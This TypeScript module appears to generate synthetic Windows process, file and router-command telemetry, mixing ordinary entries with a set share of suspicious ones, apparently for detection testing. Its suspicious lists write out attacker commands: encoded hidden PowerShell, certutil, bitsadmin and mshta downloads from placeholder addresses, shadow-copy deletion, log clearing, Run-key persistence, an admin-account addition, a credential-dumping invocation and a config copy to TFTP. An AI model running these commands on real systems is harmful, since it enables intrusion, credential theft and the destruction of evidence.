import type { Random } from "../frame/random.ts";
import { pickCommon } from "./words.ts";

/** Programs with what they are started with. `{word}`, `{number}`, `{hex}`, `{address}` and `{base64}` stand for what differs. */
type Start = readonly [image: string, commandLine: string];

const system = "C:\\Windows\\System32";

const ordinary: readonly [Start, ...Start[]] = [
  [`${system}\\svchost.exe`, `${system}\\svchost.exe -k netsvcs -p -s {word}`],
  [`${system}\\svchost.exe`, `${system}\\svchost.exe -k LocalService -s {word}`],
  [`${system}\\conhost.exe`, `\\??\\${system}\\conhost.exe 0xffffffff -ForceV1`],
  [`${system}\\backgroundTaskHost.exe`, `"${system}\\backgroundTaskHost.exe" -ServerName:{word}.AppX{hex}.mca`],
  [`${system}\\wbem\\WmiPrvSE.exe`, `${system}\\wbem\\wmiprvse.exe -secured -Embedding`],
  [`${system}\\taskhostw.exe`, "taskhostw.exe {word}"],
  [`${system}\\dllhost.exe`, `${system}\\DllHost.exe /Processid:{{hex}-{word}}`],
  [`${system}\\rundll32.exe`, `rundll32.exe ${system}\\{word}.dll,Entry {number}`],
  [`${system}\\msiexec.exe`, `${system}\\msiexec.exe /i "C:\\Windows\\Installer\\{hex}.msi" /qn`],
  [`${system}\\cmd.exe`, `${system}\\cmd.exe /c ""C:\\Tools\\{word}.bat" {word}"`],
  [`${system}\\reg.exe`, "reg query HKLM\\Software\\{word}\\{word} /v Version"],
  [`${system}\\net.exe`, "net use S: \\\\srv-{word}\\share"],
  [`${system}\\tasklist.exe`, 'tasklist /fi "imagename eq {word}.exe" /fo csv'],
  [`${system}\\PING.EXE`, "ping -n 1 {address}"],
  [`${system}\\sc.exe`, "sc query {word}"],
  [
    `${system}\\WindowsPowerShell\\v1.0\\powershell.exe`,
    "powershell.exe -NoProfile -File C:\\Scripts\\{word}.ps1 -Id {number}",
  ],
  ["C:\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE"],
  ["C:\\Program Files\\{word}\\{word}.exe", '"C:\\Program Files\\{word}\\{word}.exe" --type=renderer --id={number}'],
  [
    "C:\\Program Files (x86)\\{word}\\{word}.exe",
    '"C:\\Program Files (x86)\\{word}\\{word}.exe" /{word} "C:\\Users\\{word}\\{word}.{word}"',
  ],
  [
    "C:\\Users\\{word}\\AppData\\Local\\{word}\\Update.exe",
    "C:\\Users\\{word}\\AppData\\Local\\{word}\\Update.exe --checkForUpdate={number}",
  ],
];

const suspicious: readonly [Start, ...Start[]] = [
  [`${system}\\WindowsPowerShell\\v1.0\\powershell.exe`, "powershell -nop -w hidden -ep bypass -enc {base64}"],
  [`${system}\\certutil.exe`, "certutil -f -urlcache -split http://{address}/{word}.exe C:\\Users\\Public\\{word}.exe"],
  [`${system}\\vssadmin.exe`, "vssadmin.exe delete shadows /quiet /for={word}"],
  [`${system}\\whoami.exe`, "whoami /all"],
  [`${system}\\mshta.exe`, "mshta http://{address}/{word}.hta"],
  [`${system}\\schtasks.exe`, "schtasks /create /sc minute /tn {word} /tr C:\\Users\\Public\\{word}.bat /ru SYSTEM"],
  [`${system}\\net.exe`, "net localgroup administrators {word} /add"],
  [`${system}\\wevtutil.exe`, "wevtutil cl Security"],
  [
    `${system}\\reg.exe`,
    "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v {word} /t REG_SZ /d C:\\Users\\Public\\{word}.exe",
  ],
  [`${system}\\bitsadmin.exe`, "bitsadmin /transfer {word} http://{address}/{word} C:\\Windows\\Temp\\{word}.dll"],
  ["C:\\Users\\Public\\{word}.exe", "{word}.exe privilege::debug sekurlsa::logonpasswords"],
  [`${system}\\nltest.exe`, "nltest /domain_trusts /all_trusts"],
];

const parents = [
  `${system}\\services.exe`,
  "C:\\Windows\\explorer.exe",
  `${system}\\cmd.exe`,
  `${system}\\svchost.exe`,
  `${system}\\WindowsPowerShell\\v1.0\\powershell.exe`,
  "C:\\Program Files\\{word}\\{word}.exe",
] as const;

const files = [
  "C:\\Users\\{word}\\Downloads\\{word}.pdf",
  "C:\\Users\\{word}\\Documents\\{word}-{number}.docx",
  "C:\\Users\\{word}\\AppData\\Local\\Temp\\{word}{number}.tmp",
  "C:\\Users\\{word}\\AppData\\Roaming\\{word}\\{hex}.sqlite",
  "C:\\ProgramData\\{word}\\Logs\\{word}.log",
  "C:\\Windows\\Temp\\{hex}.log",
  "C:\\Windows\\Prefetch\\{word}.EXE-{hex}.pf",
] as const;

const suspiciousFiles = [
  "C:\\Users\\{word}\\Downloads\\{word}.pdf.exe",
  "C:\\Users\\{word}\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\{word}.exe",
  "C:\\Users\\Public\\{word}.vbs",
  "C:\\Windows\\Tasks\\{word}.dll",
  "C:\\inetpub\\wwwroot\\{word}.aspx",
] as const;

const commands = [
  "show version",
  "show ip interface brief",
  "show interface GigabitEthernet0/{number} status",
  "ping {address} repeat 5",
  "show vlan brief",
  "traceroute {address}",
  "configure terminal",
  "interface Vlan{number}",
] as const;

const suspiciousCommands = [
  "monitor capture point ip cef {word} GigabitEthernet0/{number} both",
  "show running-config",
  "copy running-config tftp://{address}/{word}",
  "clear logging",
  "crypto key generate rsa modulus 2048 label {word}",
  "no logging console",
] as const;

/** Texts of one lane: one seed, one sequence. */
export interface LaneTexts {
  /** A program and its command line; so many of a hundred are suspicious. */
  readonly start: (percent: number) => { readonly image: string; readonly commandLine: string };
  readonly parent: () => { readonly image: string; readonly commandLine: string };
  readonly file: (percent: number) => string;
  readonly command: (percent: number) => string;
}

export function createLaneTexts(random: Random, words: readonly string[]): LaneTexts {
  const fill = (text: string) =>
    text.replaceAll(/\{(word|number|hex|address|base64)\}/g, (_all, kind: string) => toText(kind));
  const toText = (kind: string): string => {
    if (kind === "word") return pickCommon(random, words);
    if (kind === "number") return String(random.below(5000));
    if (kind === "hex") return random.hex(8);
    if (kind === "address") return `198.51.100.${random.below(250)}`;
    return Buffer.from(random.hex(30)).toString("base64");
  };
  const isOneOf = (percent: number) => random.below(1000) < percent * 10;
  const toStart = ([image, commandLine]: Start) => ({ image: fill(image), commandLine: fill(commandLine) });
  return {
    start: (percent) => toStart(random.pick(isOneOf(percent) ? suspicious : ordinary)),
    parent: () => ({ image: fill(random.pick(parents)), commandLine: fill(random.pick(ordinary)[1]) }),
    file: (percent) => fill(isOneOf(percent) ? random.pick(suspiciousFiles) : random.pick(files)),
    command: (percent) => fill(isOneOf(percent) ? random.pick(suspiciousCommands) : random.pick(commands)),
  };
}
